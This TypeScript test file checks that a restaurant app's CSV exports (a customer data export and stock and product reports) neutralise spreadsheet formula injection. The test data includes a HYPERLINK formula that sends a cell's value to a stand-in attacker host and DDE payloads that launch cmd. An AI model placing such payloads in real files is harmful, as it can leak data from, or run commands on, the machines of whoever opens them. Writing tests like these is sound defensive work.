/**
 * CSV formula injection (OWASP "CSV Injection"): a diner named `=HYPERLINK(...)` or an address
 * starting with `+cmd|` must not reach a spreadsheet as a formula. OWASP's rule: a cell beginning
 * with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single quote. Checked in
 * every CSV the owner can download: the LGPD export of a customer and the reports (products, stock,
 * sales); numeric columns keep their sign (a negative quantity is a number, not a formula).
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPORT_COLUMNS } from '../../src/domain/reports/report-types';
import { reportCsv } from '../../src/server/modules/reports/report-export';
import { createTestApp, registerOwner, type TestContext } from '../harness/app';

let ctx: TestContext;
let id: string;
let cookie: string;

const NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const ADDRESS = "+cmd|' /C calc'!A0 rua das Flores";
const ITEM = '@SUM(1+1)*cmd|calc';
const UNIT = '-2+3';
const PHONE = '11987654321';
const DANGEROUS = /^[=+\-@\t\r]/;

beforeAll(async () => {
  ctx = await createTestApp();
  const owner = await registerOwner(ctx.app);
  id = owner.restaurant.id;
  cookie = owner.cookie;
  const call = (method: 'POST' | 'PUT' | 'PATCH', url: string, payload: object) =>
    ctx.app.inject({ method, url: `/api${url}`, headers: { cookie }, payload });
  const item = (
    await call('POST', `/restaurants/${id}/menu`, { name: ITEM, price: '10.00', category: 'Pratos' })
  ).json();
  await call('PATCH', `/restaurants/${id}/inventory/${item.id}`, {
    hasInventoryControl: true,
    stockUnit: UNIT,
  });
  await call('POST', `/restaurants/${id}/stock/movements`, {
    menuItemId: item.id,
    type: 'entrada',
    quantity: 10,
  });
  await call('PUT', `/restaurants/${id}/delivery-zones`, {
    zones: [{ name: 'Cidade', kind: 'radius', radiusKm: 50, fee: '5.00' }],
  });
  const order = await ctx.app.inject({
    method: 'POST',
    url: '/api/orders',
    payload: {
      restaurantId: id,
      customerName: NAME,
      customerPhone: PHONE,
      deliveryType: 'delivery',
      deliveryAddress: ADDRESS,
      neighborhood: 'Centro',
      deliveryLatitude: -23.556,
      deliveryLongitude: -46.662,
      paymentMethod: 'cash',
      items: [{ menuItemId: item.id, quantity: 2 }],
    },
  });
  expect(order.statusCode, order.body).toBe(201);
  for (const status of ['confirmed', 'preparing', 'ready', 'out_for_delivery', 'delivered'])
    await call('PATCH', `/orders/${order.json().id}/status`, { status });
}, 120_000);
afterAll(() => ctx?.close());

function cells(body: string): string[][] {
  return parse(body, { delimiter: ';', bom: true, relax_column_count: true });
}

function expectNoFormula(rows: string[][]) {
  for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(DANGEROUS);
}

describe('CSV exports neutralise formulas', () => {
  it("the LGPD export quotes the diner's name and address", async () => {
    const response = await ctx.app.inject({
      method: 'GET',
      url: `/api/restaurants/${id}/customers/${PHONE}/export?format=csv`,
      headers: { cookie },
    });
    expect(response.statusCode).toBe(200);
    const rows = cells(response.body);
    expect(rows[1]).toContain(`'${NAME}`);
    expect(rows[1]?.some((cell) => cell.startsWith(`'${ADDRESS}`))).toBe(true);
    expectNoFormula(rows);
  });

  it("the products and stock reports quote the item's name and unit", async () => {
    // Reports read dates in the restaurant's zone (São Paulo): UTC's date was tomorrow there after 21h.
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'America/Sao_Paulo' }).format(new Date());
    for (const type of ['products', 'stock']) {
      const response = await ctx.app.inject({
        method: 'GET',
        url: `/api/restaurants/${id}/reports/${type}/export?format=csv&from=${today}&to=${today}`,
        headers: { cookie },
      });
      expect(response.statusCode, response.body).toBe(200);
      const rows = cells(response.body);
      expect(rows.flat()).toContain(`'${ITEM}`);
      if (type === 'stock') expect(rows.flat()).toContain(`'${UNIT}`);
      expectNoFormula(rows);
    }
  });

  it('keeps negative numbers in numeric columns as numbers, and quotes text in them', () => {
    const csv = reportCsv({
      type: 'stock',
      title: 'Estoque',
      restaurantName: '@Casa',
      period: { from: '2024-05-01', to: '2024-05-31', label: 'maio' },
      generatedAt: '2024-06-01T00:00:00Z',
      summary: [],
      columns: REPORT_COLUMNS.stock,
      rows: [
        {
          name: '\tItem',
          unit: '\rkg',
          stockQuantity: -5,
          unitCost: '-1.50',
          stockValue: '=1+1',
          entries: '+5',
          sold: 0,
          losses: '-3',
          lossCost: '4.50',
        },
      ],
      totals: null,
      chart: null,
    });
    const [, row] = cells(csv);
    expect(row).toEqual(["'\tItem", "'\rkg", '-5', '-1,50', "'=1+1", "'+5", '0', '-3', '4,50']);
  });
});
